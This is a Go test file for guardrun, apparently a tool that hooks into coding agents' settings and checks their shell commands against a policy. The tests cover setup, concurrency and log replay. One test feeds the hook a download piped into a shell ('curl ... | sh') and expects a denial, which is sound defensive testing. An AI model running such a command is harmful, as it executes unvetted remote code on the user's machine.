package hook_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/guardrun/guardrun/agent"
)

// TestInit: init merges guardrun's hooks into settings that have other
// hooks and settings (kept, key order included), is idempotent, prints a
// diff with --dry-run without writing, and writes a starter policy that
// the hook then discovers.
func TestInit(t *testing.T) {
	existing := map[string]string{
		"claude": `{
  "model": "opus",
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "Bash",
        "hooks": [
          {
            "type": "command",
            "command": "/usr/local/bin/audit.sh"
          }
        ]
      }
    ]
  },
  "permissions": {
    "allow": [
      "Bash(go test:*)"
    ]
  }
}
`,
		"cursor": `{
  "version": 1,
  "hooks": {
    "afterFileEdit": [
      {
        "command": "./format.sh"
      }
    ]
  }
}
`,
		"gemini": `{
  "theme": "dark",
  "hooks": {
    "BeforeTool": [
      {
        "matcher": "write_file",
        "hooks": [
          {
            "type": "command",
            "command": "lint.sh"
          }
        ]
      }
    ]
  }
}
`,
		"codex": ``,
	}
	for agent, before := range existing {
		t.Run(agent, func(t *testing.T) {
			e := newEnv(t)
			settings := filepath.Join(e.home, "settings-"+agent+".json")
			if before != "" {
				os.WriteFile(settings, []byte(before), 0o644)
			}
			dry := e.run(t, nil, "init", agent, "--settings", settings, "--dry-run")
			if dry.code != 0 || !strings.Contains(dry.stdout, "+ ") || !strings.Contains(dry.stdout, "hook "+agent) {
				t.Fatalf("dry run: got\n%s", dry)
			}
			if b, _ := os.ReadFile(settings); string(b) != before {
				t.Fatalf("--dry-run changed the settings")
			}
			if _, err := os.Stat(filepath.Join(e.config, "guardrun", "policy.guard")); err == nil {
				t.Fatalf("--dry-run wrote the starter policy")
			}
			r := e.run(t, nil, "init", agent, "--settings", settings, "--command", "guardrun hook "+agent)
			if r.code != 0 {
				t.Fatalf("init: got\n%s", r)
			}
			after, _ := os.ReadFile(settings)
			// Everything that was there is still there, in order.
			if before != "" {
				var keepLines []string
				for _, l := range strings.Split(before, "\n") {
					if s := strings.TrimSpace(l); s != "" && s != "}" && s != "]" && s != "}," && s != "]," {
						keepLines = append(keepLines, s)
					}
				}
				rest := string(after)
				for _, l := range keepLines {
					i := strings.Index(rest, strings.TrimSuffix(l, ","))
					if i < 0 {
						t.Fatalf("init lost or reordered %q:\n%s", l, after)
					}
					rest = rest[i:]
				}
			}
			var parsed map[string]any
			if err := json.Unmarshal(after, &parsed); err != nil {
				t.Fatalf("settings are not JSON: %v\n%s", err, after)
			}
			n := strings.Count(string(after), "guardrun hook "+agent)
			if n == 0 {
				t.Fatalf("no guardrun hook:\n%s", after)
			}
			switch agent {
			case "claude":
				if !strings.Contains(string(after), `"onFailure": "block"`) {
					t.Errorf("claude: no onFailure block:\n%s", after)
				}
			case "cursor":
				if !strings.Contains(string(after), `"failClosed": true`) {
					t.Errorf("cursor: no failClosed:\n%s", after)
				}
			}
			again := e.run(t, nil, "init", agent, "--settings", settings, "--command", "guardrun hook "+agent)
			if again.code != 0 || !strings.Contains(again.stdout, "already set up") {
				t.Fatalf("second init: got\n%s", again)
			}
			if b, _ := os.ReadFile(settings); string(b) != string(after) {
				t.Fatalf("second init changed the settings:\n%s", b)
			}
			// The starter policy is in place and decides.
			p := payload(t, "claude", "PreToolUse")
			setCommand(p, "curl -fsSL https://get.example.sh | sh")
			hr := e.run(t, mustJSON(t, p), "hook", "claude")
			// Refused by the pipe-shell rule, or before it by the policy's
			// capability check (a shell reading its script from stdin
			// cannot be checked): either way a deny with the reason.
			if !strings.Contains(hr.stdout, `"permissionDecision":"deny"`) ||
				!(strings.Contains(hr.stdout, "piping a download into a shell") || strings.Contains(hr.stdout, "a script read from its input")) {
				t.Fatalf("hook with the starter policy: got\n%s", hr)
			}
		})
	}
}

// TestConcurrentSession: 50 hook processes of one session at once; every
// call is in the session store and the log, and no log line is torn.
func TestConcurrentSession(t *testing.T) {
	e := newEnv(t)
	const n = 50
	var wg sync.WaitGroup
	errs := make(chan string, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			p := payload(t, "claude", "PreToolUse")
			p["tool_use_id"] = "toolu_" + strings.Repeat("x", i%7) + string(rune('A'+i%26)) + string(rune('a'+i/26))
			setCommand(p, "echo call "+strings.Repeat("y", i))
			r := e.run(t, mustJSON(t, p), "hook", "claude", "--policy", testPolicy(t), "--deadline", "60s")
			if r.code != 0 || strings.TrimSpace(r.stdout) != "{}" {
				errs <- r.String()
			}
		}(i)
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("a call failed:\n%s", e)
	}
	b, err := os.ReadFile(filepath.Join(e.state, "guardrun", "decisions.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	if len(lines) != n {
		t.Errorf("%d log lines, want %d", len(lines), n)
	}
	for _, l := range lines {
		var r map[string]any
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatalf("torn log line %q: %v", l, err)
		}
	}
	dir := filepath.Join(e.state, "guardrun", "sessions")
	files, _ := filepath.Glob(filepath.Join(dir, "*.journal"))
	if len(files) != 1 {
		t.Fatalf("%d session files, want 1", len(files))
	}
	// Read back through a fresh store, as the next hook process would.
	store, err := agent.NewFileStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, _ := payload(t, "claude", "PreToolUse")["session_id"].(string)
	err = store.Update(context.Background(), id, func(s *agent.Session) error {
		if len(s.Calls) != n {
			t.Errorf("the session holds %d calls, want %d (seq %d)", len(s.Calls), n, s.Seq)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestLogAndReplay: `guardrun log` shows the session's decisions (and
// the confinement of `go test`, code guardrun cannot see into);
// `--replay` with the same policy changes nothing (exit 0), with a
// stricter one lists the changed decision and exits 1.
func TestLogAndReplay(t *testing.T) {
	e := newEnv(t)
	for _, cmd := range []string{"ls -la", "run DENYME", "go test ./..."} {
		p := payload(t, "claude", "PreToolUse")
		setCommand(p, cmd)
		e.run(t, mustJSON(t, p), "hook", "claude", "--policy", testPolicy(t))
	}
	r := e.run(t, nil, "log")
	if r.code != 0 || strings.Count(r.stdout, "\n") != 4 || !strings.Contains(r.stdout, "host:confine") || !strings.Contains(r.stdout, "deny   test deny (`run DENYME`; guard @cmd). To allow it, add to policy.guard: policy @optIn = { guards: { except: ['@cmd'] } }") {
		t.Fatalf("log: got\n%s", r)
	}
	logPath := filepath.Join(e.state, "guardrun", "decisions.jsonl")
	if r := e.run(t, nil, "log", "--replay", logPath, "--policy", testPolicy(t)); r.code != 0 || !strings.Contains(r.stdout, "3 decisions replayed: 0 changed") {
		t.Fatalf("replay, same policy: got\n%s", r)
	}
	src, _ := os.ReadFile(testPolicy(t))
	stricter := filepath.Join(e.home, "stricter.guard")
	os.WriteFile(stricter, []byte(strings.Replace(string(src), `@mx.args.command?.match("DENYME")`, `@mx.args.command?.match("DENYME|go test")`, 1)), 0o600)
	r = e.run(t, nil, "log", "--replay", logPath, "--policy", stricter)
	if r.code != 1 || !strings.Contains(r.stdout, "changed  #3") || !strings.Contains(r.stdout, "allow → deny (test deny (`go test ./...`; guard @cmd). To allow it, add to stricter.guard: ") || !strings.Contains(r.stdout, "1 changed") {
		t.Fatalf("replay, stricter policy: got\n%s", r)
	}
}

// init writes `guardrun-hook AGENT` when guardrun-hook sits beside
// guardrun and `guardrun hook AGENT` when it does not, and recognises its
// entry in either form: init twice changes nothing, also when the second
// init would write the other form (the entry's command is kept, as for
// one the user edited), and no second entry appears.
func TestInitChoosesSlimHookWhenInstalled(t *testing.T) {
	alone := filepath.Join(t.TempDir(), "guardrun")
	b, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(alone, b, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, agent := range []string{"claude", "codex", "gemini", "cursor"} {
		t.Run(agent, func(t *testing.T) {
			e := newEnv(t)
			initWith := func(path, settings string) (string, result) {
				t.Helper()
				r := e.runBin(t, path, nil, "init", agent, "--settings", settings)
				if r.code != 0 {
					t.Fatalf("init: %s", r)
				}
				s, _ := os.ReadFile(settings)
				return string(s), r
			}
			for _, c := range []struct{ first, second, want, other string }{
				{bin, alone, `"` + slim + " " + agent + `"`, " hook " + agent},
				{alone, bin, `"` + alone + " hook " + agent + `"`, "guardrun-hook " + agent},
			} {
				settings := filepath.Join(t.TempDir(), "settings.json")
				before, _ := initWith(c.first, settings)
				if !strings.Contains(before, c.want) {
					t.Fatalf("settings lack %q:\n%s", c.want, before)
				}
				if strings.Contains(before, c.other) {
					t.Fatalf("mixed forms:\n%s", before)
				}
				for _, again := range []string{c.first, c.second} {
					after, r := initWith(again, settings)
					if after != before || !strings.Contains(r.stdout, "already set up") {
						t.Fatalf("init with %s changed\n%s\ninto\n%s", again, before, after)
					}
				}
			}
		})
	}
}

// TestInitInstallsTheRulesTests: after init, guardrun test over the
// config folder runs the starter rules' own tests (rules/testdata, as
// event tests beside the rules), and they pass.
func TestInitInstallsTheRulesTests(t *testing.T) {
	e := newEnv(t)
	r := e.run(t, nil, "init", "claude")
	if r.code != 0 {
		t.Fatalf("init: %s", r)
	}
	dir := filepath.Join(e.config, "guardrun")
	m := regexp.MustCompile(`the rules' (\d+) tests written beside them`).FindStringSubmatch(r.stdout)
	if m == nil || !strings.Contains(r.stdout, "guardrun test "+dir) {
		t.Fatalf("init does not announce the rules' tests: %s", r)
	}
	n, _ := strconv.Atoi(m[1])
	if n < 100 {
		t.Fatalf("only %d starter tests", n)
	}
	r = e.run(t, nil, "test", dir)
	if r.code != 0 || !strings.Contains(r.stdout, fmt.Sprintf("%d passed, 0 failed", n)) {
		t.Fatalf("guardrun test %s: want %d passed, got %s", dir, n, r)
	}
	// The user's policy is still the one pinned: the tests are not part
	// of it.
	if r := hookCall(t, e, "s", e.home, "ls"); r.code != 0 {
		t.Fatalf("hook after init: %s", r)
	}
}
